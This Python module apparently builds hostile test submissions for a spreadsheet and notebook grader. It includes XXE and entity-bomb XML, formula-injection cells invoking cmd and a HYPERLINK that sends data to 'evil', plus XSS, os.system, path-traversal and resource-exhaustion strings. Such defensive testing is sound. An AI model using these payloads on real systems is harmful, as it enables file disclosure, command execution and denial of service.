"""Sheets that somebody who means harm hands in, for every format: each is marked or refused, within bounds."""

import io
import json
import zipfile

MILLION = 1 << 20
OWN = "question,answer\nconv1_1.params,1792\n"
WORKBOOK = {
    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                           '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                           '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                           '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                           "</Types>",
    "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
                   "</Relationships>",
    "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                       'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                                  '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
                                  "</Relationships>",
}
SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
ENTITIES = ('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12)) + "]>")
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
ODF = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="A">{}</table:table></office:spreadsheet></office:body></office:document-content>'
ROW = '<row r="{0}"><c r="A{0}" t="inlineStr"><is><t>{1}</t></is></c><c r="B{0}" t="inlineStr"><is><t>{2}</t></is></c></row>'
CELL = "<table:table-cell{1}><text:p>{0}</text:p></table:table-cell>"


def row(*cells, times=""):
    """A row of an ODS table."""
    return f"<table:table-row{times}>{''.join(CELL.format(cell, '') for cell in cells)}</table:table-row>"


def zipped(parts):
    """The parts of an archive, packed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def xlsx(sheet, **others):
    """A workbook with one sheet's XML, and what else is put in."""
    return zipped(WORKBOOK | {"xl/worksheets/sheet1.xml": sheet} | named(others))


def rows(*pairs):
    """A worksheet of questions and answers."""
    return SHEET.format("".join(ROW.format(i, *pair) for i, pair in enumerate((("question", "answer"), *pairs), start=1)))


def ods(content, mimetype="application/vnd.oasis.opendocument.spreadsheet", **others):
    """A document with one table's XML."""
    return zipped({"mimetype": mimetype, "content.xml": content} | named(others))


def named(parts):
    """Parts by their paths; two underlines stand for a stroke."""
    return {name.replace("__", "/"): text for name, text in parts.items()}


def notebook(cells):
    """A notebook with such cells."""
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells})


def answers(source, **more):
    """A notebook's cell that is marked as answers."""
    return {"cell_type": "code", "metadata": {"tags": ["answer"]}, "source": source, "outputs": [], "execution_count": None} | more


EVIL = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", '=HYPERLINK("http://evil/?"&A1)', "-2+3+cmd", "\t=1+1",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\u202e1792", "a\u0000b", "__import__('os').system('touch /tmp/owned')",
        "${9**9**9}", "9**9**9**9", "(" * 5000 + "1" + ")" * 5000, "1" * 100_000, "1," * 50_000, "x" * 100_000, "1e999999999", "1x" * 90, "\\input{/etc/passwd}",
        "{{7*7}}", "%s%n%x", "../../../../etc/passwd", "file:///etc/passwd", "٣" * 190, "a\u0301" * 90, "\ud83d\udca9 1792"]
"""Cells that mean something to a spreadsheet, a browser, an interpreter, or to nobody."""
